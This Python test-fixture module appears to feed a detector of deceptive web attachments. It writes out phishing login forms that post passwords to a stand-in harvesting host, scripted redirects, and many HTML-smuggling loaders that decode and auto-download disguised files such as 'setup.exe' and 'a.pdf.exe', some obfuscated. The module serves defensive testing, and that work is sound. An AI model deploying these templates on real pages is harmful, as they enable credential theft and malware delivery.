"""Pages that deceive whoever opens them.

The files that they carry along are harmless: they have the first octets of what they pose as, and zeros or noise.
"""

from __future__ import annotations

import base64
import gzip
import json

from tests.kit.archives import PNG, PROGRAM, pack_zip
from tests.kit.pages import (
    EMBEDDED,
    FORM,
    LINK,
    PASSWORD,
    SCRIPT,
    SMUGGLES,
    Expected,
    encode,
    html,
    mhtml,
    noise,
    page,
    script,
    svg,
)

ZIP = pack_zip({"invoice.js": b"//" + noise(3000)})
HARVEST = "https://collect.example/p.php"
LOGIN = f'<form method=post action="{HARVEST}"><input name=user type=email><input type=password name=pw></form>'
SENDS_LOGIN: Expected = ((FORM, HARVEST), (PASSWORD, "pw"))
AWAY = "https://login.example/start"
LEADS_AWAY: Expected = ((SCRIPT, AWAY), (LINK, AWAY))

_TO_OCTETS = (
    "function toOctets(b64){var s=atob(b64);var n=s.length;var o=new Uint8Array(n);"
    "for(var i=0;i<n;i++){o[i]=s.charCodeAt(i);}return o.buffer;}\n"
)
_SAVE = (
    "var b=new Blob([data],{type:'octet/stream'});var a=document.createElement('a');document.body.appendChild(a);"
    "a.style='display:none';var u=window.URL.createObjectURL(b);a.href=u;a.download=fileName;a.click();"
    "window.URL.revokeObjectURL(u);"
)


def _smuggle(payload: bytes, name: str) -> str:
    """The pattern that the first reports on HTML smuggling describe."""
    return html(
        script(f"{_TO_OCTETS}var file='{encode(payload)}';var data=toOctets(file);var fileName='{name}';{_SAVE}")
    )


def _smuggle_pieces() -> str:
    text = encode(ZIP)
    pieces = "'\n + '".join(text[place : place + 76] for place in range(0, len(text), 76))
    return html(script(f"{_TO_OCTETS}var file='{pieces}';var fileName='scan'+'.zip';var data=toOctets(file);{_SAVE}"))


def _smuggle_joined() -> str:
    text = encode(noise(6000))
    pieces = json.dumps([text[place : place + 76] for place in range(0, len(text), 76)])
    return html(script(f"{_TO_OCTETS}const data=toOctets({pieces}.join(''));const fileName='scan.img';{_SAVE}"))


def _smuggle_on_click() -> str:
    code = (
        f"const enc='{encode(noise(5000))}';\nfunction get() {{\n  const key = 7;\n"
        "  const bytes = Uint8Array.from(atob(enc), c => c.charCodeAt(0) ^ key);\n"
        "  const blob = new Blob([\n    bytes\n  ]);\n  const link = document.createElement('a');\n"
        "  link['href'] = URL['createObjectURL'](blob);\n  link.setAttribute('download', 'Invoice_2026.zip');\n"
        "  link.click();\n}\n"
    )
    return html("<button onclick=get()>Download</button>" + script(code))


def _smuggle_from_element() -> str:
    code = (
        "window.onload=function(){var t=document.getElementById('store').textContent;var raw=atob(t.trim());"
        "var out=[];for(var i=0;i<raw.length;i++){out.push(raw.charCodeAt(i))}"
        "var f=new File([new Uint8Array(out)],'parcel.iso');location.href=URL.createObjectURL(f)}"
    )
    return html(f"<div id=store hidden>\n{base64.encodebytes(noise(4000)).decode()}</div>" + script(code))


def _smuggle_numbers() -> str:
    numbers = ",".join(str(octet) for octet in PROGRAM * 3)
    return html(script(f"navigator.msSaveOrOpenBlob(new Blob([new Uint8Array([{numbers}])]), 'setup.exe')"))


def _smuggle_fetched() -> str:
    code = (
        "addEventListener('DOMContentLoaded',async()=>{const parts=[];for(const n of [1,2,3])"
        "parts.push(await (await fetch('https://cdn.example/'+n)).arrayBuffer());const a=document.createElement('a');"
        "a.href=URL.createObjectURL(new Blob(parts));a.download='report.zip';a.click()});"
    )
    return html("<p>Loading …</p>" + script(code))


def _smuggle_padded() -> str:
    """The code stands behind eight megabytes of payload, in a script that is as long as a library."""
    filler = "".join(f"var v{number}={number};\n" for number in range(9_000))
    payload = encode(b"PK\x03\x04" + noise(6 << 20))
    return html(
        script(f"{filler}{_TO_OCTETS}var file='{payload}';var data=toOctets(file);var fileName='x.zip';{_SAVE}")
    )


def _percent(text: str) -> str:
    return "".join(f"%{octet:02x}" for octet in text.encode())


def _hexadecimal(text: str) -> str:
    return "".join(f"\\x{octet:02x}" for octet in text.encode())


_NESTED = encode(svg(script("top.location='" + AWAY + "'")))

DECEIVING = (
    page("login form", "invoice.html", html(LOGIN), *SENDS_LOGIN),
    page("form in a form", "a.html", html(LOGIN.replace("<input", "<form action=x><input", 1)), *SENDS_LOGIN),
    page(
        "upper case and entities", "a.htm", f"<FORM ACTION='{HARVEST}'><INPUT TYPE=p&#97;ssword NAME=pw>", *SENDS_LOGIN
    ),
    page(
        "without an action",
        "a.html",
        html("<form id=f><input type=email><input type=password id=p></form>" + script("f.onsubmit=send")),
        (FORM, ""),
        (PASSWORD, "p"),
    ),
    page(
        "action of its own",
        "a.html",
        html("<form action='#' onsubmit='return go()'><input name=card></form>"),
        (FORM, ""),
    ),
    page(
        "by base",
        "a.html",
        html(
            "<form action=p.php><input name=pin><input type=password></form>", "<base href='https://collect.example/'>"
        ),
        (FORM, HARVEST),
        (PASSWORD, ""),
    ),
    page(
        "on the button",
        "a.html",
        html(f"<form><input name=user><button formaction='{HARVEST}'>OK</button></form>"),
        (FORM, HARVEST),
    ),
    page("written in clear", "a.html", html(script(f"document.write('{LOGIN}')")), *SENDS_LOGIN),
    page(
        "written in percent signs",
        "a.html",
        html(script(f"document.write(unescape('{_percent(LOGIN)}'))")),
        *SENDS_LOGIN,
    ),
    page(
        "written in base64", "a.html", html(script(f"document.body.innerHTML = atob(`{encode(LOGIN)}`)")), *SENDS_LOGIN
    ),
    page(
        "written twice over",
        "a.html",
        html(script(f"document.write(decodeURIComponent(atob('{encode(_percent(LOGIN))}')))")),
        *SENDS_LOGIN,
    ),
    page(
        "base64 of base64",
        "a.html",
        html(script(f"eval(atob(atob('{encode(encode('document.write(' + json.dumps(LOGIN) + ')'))}')))")),
        *SENDS_LOGIN,
    ),
    page("escaped", "a.html", html(script(f'x.innerHTML = "{_hexadecimal(LOGIN)}"')), *SENDS_LOGIN),
    page(
        "in character codes",
        "a.html",
        html(script(f"document.write(String.fromCharCode({','.join(str(ord(c)) for c in LOGIN)}))")),
        *SENDS_LOGIN,
    ),
    page(
        "in pieces",
        "a.html",
        html(script("document.write('<inp' + \"ut ty\" /* - */ + 'pe=pass' + `word name=pw>`)")),
        (PASSWORD, "pw"),
    ),
    page(
        "created",
        "a.html",
        html(script("var i=document.createElement('input'); i['type'] = 'password';")),
        (PASSWORD, ""),
    ),
    page("masked", "a.html", html("<input name=pin style='-webkit-text-security: disc'>"), (PASSWORD, "")),
    page(
        "a page in a frame",
        "a.html",
        html(f'<iframe src="data:text/html;base64,{encode(LOGIN)}"></iframe>'),
        *SENDS_LOGIN,
    ),
    page(
        "a page in an attribute",
        "a.html",
        html(f"<iframe srcdoc='{LOGIN.replace('<', '&lt;')}'></iframe>"),
        *SENDS_LOGIN,
    ),
    page("in UTF-16", "a.html", html(LOGIN).encode("utf-16"), *SENDS_LOGIN),
    page(
        "XHTML",
        "a.xhtml",
        '<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml">'
        f'<h:form action="{HARVEST}"><h:input type="password" name="pw"/></h:form></h:html>',
        *SENDS_LOGIN,
    ),
    page("MHTML", "a.mht", lambda: mhtml([("text/html", html(LOGIN).encode()), ("image/png", PNG)]), *SENDS_LOGIN),
    page("nameless", "statement", html(LOGIN), *SENDS_LOGIN),
    page(
        "program in MHTML",
        "a.mhtml",
        lambda: mhtml([("text/html", b"<p>x"), ("image/png", PROGRAM)]),
        (EMBEDDED, "program"),
    ),
    page(
        "script behind a style",
        "a.html",
        html("<svg><p><style><!--</style>" + script(f"location='{AWAY}'") + "<!-- -->"),
        *LEADS_AWAY,
    ),
    page("leads away", "a.html", html(script(f"window.location.href = '{AWAY}';")), *LEADS_AWAY),
    page(
        "leads away by name",
        "a.html",
        html(
            script(
                "var h='https://login.example';\nfunction go(){ top.location.replace(h + '/start') }\n"
                "setTimeout(go, 100)"
            )
        ),
        *LEADS_AWAY,
    ),
    page(
        "leads away, decoded",
        "a.html",
        html(script(f"const to = atob('{encode(AWAY)}'); window['location'] = to")),
        *LEADS_AWAY,
    ),
    page("leads away on load", "a.html", f"<body onload=\"location.assign('{AWAY}')\">", *LEADS_AWAY),
    page("leads away by error", "a.html", f"<img src=x onerror=\"window.location='{AWAY}'\">", *LEADS_AWAY),
    page("refresh", "a.html", html("", f'<meta http-equiv="Refresh" content="0; URL=\'{AWAY}\'">'), *LEADS_AWAY),
    page(
        "sends a form by itself",
        "a.html",
        html(f"<form action='{AWAY}'><input type=hidden name=m value=x></form>" + script("document.forms[0].submit()")),
        *LEADS_AWAY,
    ),
    page("smuggles", "a.html", lambda: _smuggle(ZIP, "scan.zip"), (SMUGGLES, "scan.zip"), (EMBEDDED, "archive")),
    page(
        "smuggles a program",
        "a.html",
        lambda: _smuggle(PROGRAM * 4, "a.pdf.exe"),
        (SMUGGLES, "a.pdf.exe"),
        (EMBEDDED, "program"),
    ),
    page("smuggles what is encrypted", "a.html", lambda: _smuggle(noise(3000), "a.pdf"), (SMUGGLES, "a.pdf")),
    page("smuggles in pieces", "a.html", _smuggle_pieces, (SMUGGLES, "scan.zip"), (EMBEDDED, "archive")),
    page("smuggles a list", "a.html", _smuggle_joined, (SMUGGLES, "scan.img")),
    page("smuggles on a click", "a.html", _smuggle_on_click, (SMUGGLES, "Invoice_2026.zip")),
    page("smuggles from an element", "a.html", _smuggle_from_element, (SMUGGLES, "parcel.iso")),
    page("smuggles numbers", "a.html", _smuggle_numbers, (SMUGGLES, "setup.exe"), (EMBEDDED, "program")),
    page("smuggles what it fetches", "a.html", _smuggle_fetched, (SMUGGLES, "report.zip")),
    page("smuggles behind padding", "a.html", _smuggle_padded, (SMUGGLES, "x.zip"), (EMBEDDED, "archive")),
    page(
        "smuggles by a link",
        "a.html",
        lambda: html(f'<a download=form.zip href="data:application/zip;base64,{encode(ZIP)}">x</a>'),
        (SMUGGLES, "form.zip"),
        (EMBEDDED, "archive"),
    ),
    page(
        "smuggles a script",
        "a.html",
        html("<a download='run.js' href='data:text/plain,alert(1)'>x</a>"),
        (SMUGGLES, "run.js"),
    ),
    page(
        "backwards",
        "a.html",
        lambda: html(script(f"var f='{encode(ZIP[:1500])[::-1]}'.split('').reverse().join('')")),
        (EMBEDDED, "archive"),
    ),
    page(
        "drawing with a script",
        "a.svg",
        svg(f"<script><![CDATA[window.location='{AWAY}']]></script>"),
        (SCRIPT, f"window.location='{AWAY}'"),
        *LEADS_AWAY,
    ),
    page(
        "drawing, encoded",
        "a.svg",
        svg(f"<script>&#119;indow.location='{AWAY}'</script>"),
        (SCRIPT, f"window.location='{AWAY}'"),
        *LEADS_AWAY,
    ),
    page(
        "drawing with a foreign script",
        "a.svg",
        svg('<s:script xmlns:s="http://www.w3.org/2000/svg" xlink:href="https://cdn.example/a.js"/>'),
        (SCRIPT, "https://cdn.example/a.js"),
    ),
    page(
        "drawing on load",
        "logo.svg",
        svg("<rect/>", "onload=\"location='https://login.example/start'\""),
        (SCRIPT, "onload"),
        *LEADS_AWAY,
    ),
    page(
        "drawing with a link",
        "a.svg",
        svg('<a xlink:href="java&#10;script:go()"><text>x</text></a>'),
        (SCRIPT, "javascript:go()"),
    ),
    page(
        "drawing that sets a link",
        "a.svg",
        svg('<a><animate attributeName="href" values="javascript:go()"/></a>'),
        (SCRIPT, "javascript:go()"),
    ),
    page(
        "drawing with a page",
        "a.svg",
        svg(f'<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">{LOGIN}</div></foreignObject>'),
        *SENDS_LOGIN,
    ),
    page("drawing, compressed", "a.svgz", lambda: gzip.compress(svg(script("go()")).encode()), (SCRIPT, "go()")),
    page(
        "drawing in a drawing",
        "a.svg",
        svg(f'<use href="data:image/svg+xml;base64,{_NESTED}#x"/>'),
        (SCRIPT, f"top.location='{AWAY}'"),
        *LEADS_AWAY,
    ),
    page("drawing by another name", "a.xml", svg(script("go()")), (SCRIPT, "go()")),
)
